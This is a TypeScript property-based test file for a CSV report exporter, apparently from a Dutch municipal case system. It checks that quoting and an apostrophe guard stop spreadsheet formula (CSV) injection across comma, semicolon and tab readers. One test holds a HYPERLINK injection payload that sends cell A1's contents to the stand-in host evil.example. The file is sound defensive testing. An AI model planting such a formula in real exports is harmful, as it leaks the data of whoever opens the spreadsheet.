import fc from 'fast-check';
import { parseCsv, readAsSpreadsheet } from '../../../../test/support/csv.js';
import { CSV_COLUMNS, csvField, neutraliseFormulas, reportsToCsv } from './report-csv.js';
import type { ReportCaseView, ReportView } from './report.dto.js';

/** What a spreadsheet runs as a formula when a cell starts with it (OWASP "CSV injection"). */
const FORMULA = /^[=+\-@\t\r]/;

describe('csvField', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['a;b', '"a;b"'],
    ['tab\there', '"tab\there"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\rhere', '"cr\rhere"'],
    ['=1+1', "'=1+1"],
    ['+31 50', "'+31 50"],
    ['-x', "'-x"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', `"'\t'=1"`],
    ['=HYPERLINK("x","y")', `"'=HYPERLINK(""x"",""y"")"`],
    // Dutch Excel splits on ";" and does not see our quotes there: the cell after it is guarded too.
    ['Bankjes;=HYPERLINK("https://x.nl")', `"Bankjes;'=HYPERLINK(""https://x.nl"")"`],
    ['Bankjes;"=1"', `"Bankjes;'""=1"""`],
    ['a,-1', `"a,'-1"`],
    ['regel 1\r\n@2', `"regel 1\r\n'@2"`],
    ['1 - 2 = 3', '1 - 2 = 3'],
    ['Zaal; - leeg', '"Zaal; - leeg"'],
    ['', ''],
  ])('%j → %s', (input, expected) => expect(csvField(input)).toBe(expected));

  it('writes numbers as they are, negative ones too, and null as empty', () => {
    expect(csvField(-5)).toBe('-5');
    expect(csvField(250000)).toBe('250000');
    expect(csvField(null)).toBe('');
  });
});

describe('reportsToCsv', () => {
  it('writes a header and one CRLF record per case, even for an empty report', () => {
    const empty = { number: 4, cases: [] } as unknown as ReportView;
    expect(reportsToCsv([empty]).split('\r\n')).toEqual([
      expect.stringMatching(/^reportNumber,reference,/),
      '',
    ]);
  });

  // Texts built from what CSV injection and cell splitting are made of, and some plain letters.
  const hostile = fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', "'", ',', ';', ' ', 'a', 'Z', '1', 'é'),
    maxLength: 14,
  });
  const reportWith = (title: string, theme: string): ReportView =>
    ({
      number: 7,
      cases: [
        {
          reference: 'INI-2026-000001',
          type: 'initiative',
          title,
          areaCode: 'oost',
          theme,
          outcome: 'honoured',
          decidedBy: 'college',
          requestedAmountCents: 250_000,
          honouredAmountCents: 200_000,
          decidedAt: '2026-03-01T10:00:00.000Z',
        } as ReportCaseView,
      ],
    }) as unknown as ReportView;

  it('reads back as written with a strict RFC 4180 reader, texts changed only by the formula guard', () => {
    fc.assert(
      fc.property(hostile, hostile, (title, theme) => {
        const [header, record, ...rest] = parseCsv(reportsToCsv([reportWith(title, theme)]));
        expect(header).toEqual([...CSV_COLUMNS]);
        expect(rest).toEqual([]);
        expect(record).toEqual([
          '7',
          'INI-2026-000001',
          'initiative',
          neutraliseFormulas(title),
          'oost',
          neutraliseFormulas(theme),
          'honoured',
          'college',
          '250000',
          '200000',
          '2026-03-01T10:00:00.000Z',
        ]);
        // The guard only adds apostrophes, and only where a formula could start.
        expect(neutraliseFormulas(title).replace(/'/g, '')).toBe(title.replace(/'/g, ''));
        if (!/[=+\-@\t\r]/.test(title)) expect(record[3]).toBe(title);
      }),
      { numRuns: 1000 },
    );
  });

  it.each([
    [',', 'a reader of RFC 4180 CSV'],
    [';', 'Dutch Excel'],
    ['\t', 'a reader splitting on tabs'],
  ])('gives no cell that starts a formula when opened splitting on %j (%s)', (separator) => {
    fc.assert(
      fc.property(hostile, hostile, (title, theme) => {
        const csv = reportsToCsv([reportWith(title, theme)]);
        const formulas = readAsSpreadsheet(csv, separator)
          .flat()
          .filter((cell) => FORMULA.test(cell));
        expect({ title, theme, formulas }).toEqual({ title, theme, formulas: [] });
      }),
      { numRuns: 1000 },
    );
  });

  it('keeps Bankjes;=HYPERLINK(…) in one cell for a comma reader and out of a formula for Dutch Excel', () => {
    const title = 'Bankjes;=HYPERLINK("https://evil.example/?q="&A1,"Klik")';
    const csv = reportsToCsv([reportWith(title, 'groen')]);
    expect(parseCsv(csv)[1][3]).toBe(`Bankjes;'=HYPERLINK("https://evil.example/?q="&A1,"Klik")`);
    const dutch = readAsSpreadsheet(csv, ';')[1];
    expect(dutch).toHaveLength(2);
    expect(dutch[1]).toMatch(/^'=HYPERLINK/);
  });
});
